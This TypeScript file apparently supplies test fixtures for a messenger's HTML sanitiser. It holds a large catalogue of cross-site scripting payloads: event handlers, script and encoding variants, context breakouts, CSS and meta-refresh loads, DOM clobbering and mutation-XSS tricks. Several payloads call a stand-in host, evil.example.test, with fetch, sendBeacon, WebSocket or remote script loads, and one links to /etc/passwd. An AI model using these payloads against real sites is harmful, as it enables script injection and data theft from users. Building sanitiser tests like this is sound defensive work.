/** Sets a mark on the page that it runs in. A payload that has run is seen by the mark, by a dialog, or by a request. */
const RUN = "window.__ran=(window.__ran||0)+1";
const AWAY = "https://evil.example.test/x";

const HANDLERS = [
  `<img src=x onerror=${RUN}>`, `<img src="x" onerror="${RUN}">`, `<img src='x' onerror='${RUN}'>`, `<img src=\`x\` onerror=${RUN}>`, `<IMG SRC=x OnErRoR=${RUN}>`, `<img/src=x/onerror=${RUN}>`, `<img\tsrc=x\nonerror=${RUN}>`,
  `<img src=x onerror=${RUN}//`, `<img src=${AWAY}>`, `<img srcset="${AWAY} 1x">`, `<image src=x onerror=${RUN}>`, `<picture><source srcset=${AWAY}><img></picture>`, `<svg onload=${RUN}>`, `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<svg><image href=${AWAY} /></svg>`, `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x">`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>x</text></a>`, `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`, `<svg><style><img src=x onerror=${RUN}></style>`, `<body onload=${RUN}>`, `<body background=${AWAY}>`,
  `<input autofocus onfocus=${RUN}>`, `<select autofocus onfocus=${RUN}>`, `<textarea autofocus onfocus=${RUN}>`, `<button autofocus onfocus=${RUN}>`, `<details open ontoggle=${RUN}>`, `<video src=x onerror=${RUN}>`, `<video><source onerror=${RUN}></video>`,
  `<video poster=${AWAY}>`, `<audio src=x onerror=${RUN}>`, `<audio src=${AWAY} autoplay>`, `<marquee onstart=${RUN}>x</marquee>`, `<object data="javascript:${RUN}">`, `<object data=${AWAY}>`, `<embed src=${AWAY}>`, `<embed src="javascript:${RUN}">`,
  `<iframe src="javascript:parent.__ran=1">`, `<iframe srcdoc="<script>parent.__ran=1</script>">`, `<iframe src=${AWAY}>`, `<iframe onload=${RUN}>`, `<frameset onload=${RUN}>`, `<div style="background:url(${AWAY})">x</div>`, `<div onpointerenter=${RUN} style="position:fixed;inset:0">x</div>`,
  `<div style="animation:x 1s" onanimationstart=${RUN}><style>@keyframes x{}</style>`, `<p tabindex=0 onfocus=${RUN} autofocus>x</p>`, `<form action=${AWAY}><button autofocus>x</button></form>`, `<isindex action=javascript:${RUN}>`, `<keygen autofocus onfocus=${RUN}>`,
];

const SCRIPTS = [
  `<script>${RUN}</script>`, `<SCRIPT>${RUN}</SCRIPT>`, `<script >${RUN}</script >`, `<script/x>${RUN}</script>`, `<script\n>${RUN}</script\n>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<<script>${RUN}//<</script>`, `<script src=${AWAY}></script>`,
  `<script type=module>${RUN}</script>`, `<script type=module src=${AWAY}></script>`, `<script src=data:text/javascript,${RUN}></script>`, `<script>alert(1)</script>`, `<script>fetch("${AWAY}")</script>`, `<script>new Image().src="${AWAY}"</script>`, `<script>navigator.sendBeacon("${AWAY}")</script>`,
  `<script>new WebSocket("wss://evil.example.test")</script>`, `<script>document.body.innerHTML=""</script>`, `<script>location="${AWAY}"</script>`, `<script>open("${AWAY}")</script>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<template><script>${RUN}</script></template>`,
  `<xmp><script>${RUN}</script></xmp>`, `<plaintext><script>${RUN}</script>`, `<![CDATA[<script>${RUN}</script>]]>`, `<!--><script>${RUN}</script>-->`, `<!-- --!><script>${RUN}</script>`, `<?xml version="1.0"?><script>${RUN}</script>`, `<%00script>${RUN}</script>`, `<script\u0000>${RUN}</script>`, `<\u0000script>${RUN}</script>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, `\ufeff<script>${RUN}</script>`, `\u202e<script>${RUN}</script>`, `＜script＞${RUN}＜/script＞`, `%3Cscript%3E${RUN}%3C/script%3E`, `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`, `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
];

const ENTITIES = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`, `&lt;img src=x onerror=${RUN}&gt;`, `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`, `&#60;script&#62;${RUN}&#60;/script&#62;`, `&#x3c;img src=x onerror=${RUN}&#x3e;`, `&#0000060script>${RUN}</script>`, `&LT;script&GT;${RUN}`, `&lt script &gt ${RUN}`, `&NewLine;&Tab;<img src=x onerror=${RUN}>`,
  `<a href="&#106;avascript:${RUN}">x</a>`, `<p title="&quot;><img src=x onerror=${RUN}>">`, `&quot; onfocus=${RUN} autofocus tabindex=1 x=&quot;`,
];

const BREAKOUTS = [
  `</title><script>${RUN}</script>`, `</style><script>${RUN}</script>`, `</script><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</head><body onload=${RUN}>`, `</dd></dl></article><img src=x onerror=${RUN}>`, `</li></ol></main><script>${RUN}</script>`, `</html><script>${RUN}</script>`,
  `"><script>${RUN}</script>`, `'><script>${RUN}</script>`, `\`><script>${RUN}</script>`, `" onmouseover="${RUN}`, `' onmouseover='${RUN}`, `" autofocus onfocus="${RUN}" x="`, `" style="background:url(${AWAY})" x="`, `--><script>${RUN}</script><!--`, `*/</style><script>${RUN}</script>/*`,
  `';${RUN};'`, `";${RUN};"`, `\${${RUN}}`, `{{constructor.constructor("${RUN}")()}}`, `<%= ${RUN} %>`, `#{${RUN}}`, `\`\${${RUN}}\``, `\\";${RUN};//`, `\u2028${RUN}`, `/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${RUN} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>\\x3e`,
];

const POLICY_AND_NAVIGATION = [
  `<meta http-equiv=refresh content="0;url=${AWAY}">`, `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<meta http-equiv=Content-Security-Policy content="script-src *">`, `<meta charset=utf-7>`, `<base href=${AWAY}>`, `<link rel=stylesheet href=${AWAY}>`, `<link rel=icon href=${AWAY}>`, `<link rel=preload as=image href=${AWAY}>`,
  `<link rel=dns-prefetch href=//evil.example.test>`, `<link rel=prerender href=${AWAY}>`, `<link rel=manifest href=${AWAY}>`, `<style>@import "${AWAY}";</style>`, `<style>body{background:url(${AWAY})}</style>`, `<style>@font-face{font-family:x;src:url(${AWAY})}*{font-family:x}</style>`, `<a href="javascript:${RUN}">x</a>`, `<a href=" java\nscript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`, `<a href="vbscript:${RUN}">x</a>`, `<a href=${AWAY} ping=${AWAY}>x</a>`, `<a href="//evil.example.test">x</a>`, `<a href=file:///etc/passwd>x</a>`, `<area href="javascript:${RUN}">`, `<form id=x></form><button form=x formaction="javascript:${RUN}">x</button>`, `<dialog open><form method=dialog></form></dialog>`,
  `<portal src=${AWAY}>`, `<img name=getElementById><img name=body>`, `<form name=document><input name=cookie></form>`, `<a id=search-box></a><a id=conversation-list></a>`, `<slot onslotchange=${RUN}></slot>`,
];

const MUTATIONS = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`, `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`, `<noembed><img title="</noembed><img src onerror=${RUN}>"></noembed>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}>`,
  `<table><td background=${AWAY}>`, `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`, `<select><iframe src=javascript:${RUN}></select>`, `<svg><desc><noscript><img src=x onerror=${RUN}>`, `<custom-element onclick=${RUN} autofocus tabindex=1>`,
];

/** Texts as somebody who hates the reader would write them into a messenger. */
export const PAYLOADS: readonly string[] = [...HANDLERS, ...SCRIPTS, ...ENTITIES, ...BREAKOUTS, ...POLICY_AND_NAVIGATION, ...MUTATIONS];
